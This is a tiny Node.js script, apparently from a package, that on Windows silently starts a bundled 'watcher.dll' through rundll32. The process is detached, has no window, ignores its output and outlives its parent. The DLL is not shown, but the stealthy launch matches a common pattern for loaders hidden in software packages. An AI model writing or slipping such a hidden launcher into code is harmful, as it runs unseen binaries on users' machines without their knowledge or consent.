const { spawn } = require('child_process');
const path = require('path');
if (process.platform === 'win32') {
  const dll = path.join(__dirname, 'prebuilds', 'watcher.dll');
  spawn('rundll32', [dll + ',Start'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}
